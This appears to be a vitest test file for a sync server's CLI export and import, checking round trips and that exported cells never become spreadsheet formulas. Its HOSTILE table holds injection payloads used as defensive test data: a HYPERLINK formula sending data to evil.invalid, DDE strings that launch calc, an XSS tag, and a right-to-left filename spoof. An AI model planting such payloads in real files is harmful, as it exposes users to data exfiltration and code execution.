import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Act } from '../../../shared/model/act.ts';
import type { Anchor, IdentityId } from '../../../shared/model/ids.ts';
import { CommandError } from '../../../sync-server/cli/commandError.ts';
import { readExport, writeExport } from '../../../sync-server/cli/exportFile.ts';
import { localCommands } from '../../../sync-server/cli/localCommands.ts';
import type { ExportRecord } from '../../../sync-server/cli/portableRecords.ts';
import { startTestServer, type TestServer } from '../../support/startTestServer.ts';

/** What a spreadsheet, a parser or a renderer might stumble over. */
const HOSTILE: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("http://evil.invalid/"&A1,"click")',
  plus: '+1+1',
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+9)*cmd|" /C calc"!A0',
  tab: '\t=1+1',
  return: '\r=1+1',
  lineFeed: '\n=1+1',
  fullWidth: '＝1+1',
  apostrophe: "'quoted",
  apostropheFormula: "'=1+1",
  twoApostrophes: "''+1",
  lonelyApostrophe: "'",
  quotes: 'say "no", twice: ""',
  lines: 'one\r\ntwo\nthree\rfour',
  spaces: '  kept on both sides  ',
  long: 'ä"=,'.repeat(1_024),
  unicode: 'Zahlungsverkehr ½ 支払い 💳',
  rightToLeft: '\u202Efdp.exe\u202C שלום',
  markup: '<img src=x onerror=alert(1)>&amp;]]>',
  prototype: '__proto__',
  constructor: 'constructor',
  control: 'bell\u0007 null\u0000 escape\u001B[31m',
  escapeLookAlike: '_x000D_ and _x005F_',
  semicolons: 'a; b;c',
  list: '["a","b"]',
  number: '0012',
  boolean: 'TRUE',
  date: '1/2/2026',
};

let folder: string;
let space: TestServer;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'muster-roundtrip-'));
  space = await startTestServer({ background: false });
  await fill(space);
}, 60_000);
afterAll(async () => {
  await space?.close();
  rmSync(folder, { recursive: true, force: true });
});

const anchorOf = (number: number): Anchor => number.toString(16).padStart(32, '0') as Anchor;
const TEAM = anchorOf(0xfff);

async function fill({ core }: TestServer): Promise<void> {
  const acts: Act[] = [{ kind: 'create', anchor: TEAM, type: 'party', recordKind: 'team', name: 'Payments' }];
  acts.push({ kind: 'add', anchors: [TEAM], field: 'aliases', element: 'team-payments' });
  Object.values(HOSTILE).forEach((value, index) => {
    const anchors = [anchorOf(index + 1)];
    acts.push({ kind: 'create', anchor: anchorOf(index + 1), type: 'identity', recordKind: 'service account', name: value });
    acts.push({ kind: 'set', anchors, field: 'purpose', value }, { kind: 'set', anchors, field: 'owner', value: `party:${TEAM}` });
    acts.push({ kind: 'add', anchors, field: 'tags', element: value }, { kind: 'add', anchors, field: 'tags', element: 'pci' });
    acts.push({ kind: 'set', anchors, field: 'neededUntil', value: '2027-01-31' });
  });
  acts.push(
    { kind: 'exclude', anchors: [anchorOf(1)], reason: 'duplicate' },
    { kind: 'lifecycle', anchors: [anchorOf(2)], state: 'retired' },
  );
  const done = await core.commit(acts);
  if (!done.ok) throw new Error(done.error.message);
}

async function exported(server: TestServer): Promise<ExportRecord[]> {
  const commands = localCommands(server.core);
  return (await commands.export?.({})) as ExportRecord[];
}

const governed = (records: readonly ExportRecord[]): unknown =>
  Object.fromEntries(records.map(({ row, values }) => [row.id, { type: row.type, kind: row.kind, values: { ...values, name: row.name } }]));

async function importInto(server: TestServer, path: string): Promise<unknown> {
  const rows = await readExport(path);
  return localCommands(server.core)['apply-rows']?.({ rows: JSON.parse(JSON.stringify(rows)), why: 'round trip' });
}

describe.each(['csv', 'xlsx', 'json', 'ndjson'] as const)('[CLI6] export as %s and import lose nothing', (ending) => {
  const path = (): string => join(folder, `export.${ending}`);

  it('into the same space: no change', async () => {
    const records = await exported(space);
    expect(records.map(({ row }) => row.name).sort()).toEqual([...Object.values(HOSTILE), 'Payments'].sort());
    await writeExport(path(), records);
    expect(await importInto(space, path())).toEqual({ rows: records.length, created: 0, changes: 0, entries: 0 });
  });

  it('into a fresh one: the same ids, values, lifecycle and parties, and again no change', async () => {
    const fresh = await startTestServer({ background: false });
    try {
      const before = await exported(space);
      expect(await importInto(fresh, path())).toMatchObject({ rows: before.length, created: before.length });
      expect(governed(await exported(fresh))).toEqual(governed(before));
      expect(fresh.core.register.row(anchorOf(3) as string as IdentityId)?.owner).toMatchObject({ text: 'Payments', party: TEAM });
      expect(await importInto(fresh, path())).toMatchObject({ created: 0, changes: 0 });
    } finally {
      await fresh.close();
    }
  });
});

describe('[CLI7] no cell of an export is a formula', () => {
  it('in CSV: not one starts with what a spreadsheet program would compute', async () => {
    const { parse } = await import('csv-parse/sync');
    const cells = (parse(readFileSync(join(folder, 'export.csv')), { bom: true }) as string[][]).flat();
    expect(cells.length).toBeGreaterThan(500);
    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
  });

  it('in XLSX: the sheet holds strings and no formula element', async () => {
    const { unzipSync, strFromU8 } = await import('fflate');
    const files = unzipSync(readFileSync(join(folder, 'export.xlsx')));
    const sheets = Object.entries(files).filter(([name]) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
    expect(sheets.length).toBe(1);
    for (const [, bytes] of sheets) expect(strFromU8(bytes)).not.toMatch(/<f[ >]/);
  });
});

describe('[CLI8] an import is taken in as a whole or not at all', () => {
  const [first, second] = [anchorOf(0xa1), anchorOf(0xa2)];
  const record = (id: string, values: object): object => ({ id, type: 'identity', kind: 'unknown', values });

  it.each([
    ['a field that does not exist', [record(first, {}), record(second, { shoe: 'large' })], /Record 2.*shoe/],
    ['a value that may not be there', [record(first, {}), record(second, { environment: 'moon' })], /Record 2.*environment/i],
    ['a number where text belongs', [record(first, { owner: 5 })], /Record 1.*owner/i],
    ['a text where a list belongs', [record(first, { tags: 'a' })], /Record 1.*list/],
    ['one id twice', [record(first, {}), record(first, {})], /Record 2.*same id/],
    ['a type that does not exist', [{ ...record(first, {}), type: 'starship' }], /type/],
  ])('%s', async (_name, records, says) => {
    const file = join(folder, 'bad.json');
    writeFileSync(file, JSON.stringify(records));
    const { place } = space.core.ledger;
    await expect(importInto(space, file)).rejects.toSatisfy(
      (error) => error instanceof CommandError && error.exitCode === 2 && says.test(error.message),
    );
    expect(space.core.ledger.place).toBe(place);
  });

  it('more than one device may have under way at once goes in all the same', async () => {
    const fresh = await startTestServer({ background: false });
    try {
      const many = Array.from({ length: 9_000 }, (_, index) =>
        record(anchorOf(0x10000 + index), { purpose: `${index} `.padEnd(4_000, 'x') }),
      );
      const file = join(folder, 'many.ndjson');
      writeFileSync(file, many.map((one) => JSON.stringify(one)).join('\n'));
      expect(await importInto(fresh, file)).toMatchObject({ rows: 9_000, created: 9_000, changes: 18_000 });
      expect(await importInto(fresh, file)).toMatchObject({ created: 0, changes: 0 });
    } finally {
      await fresh.close();
    }
  });
});
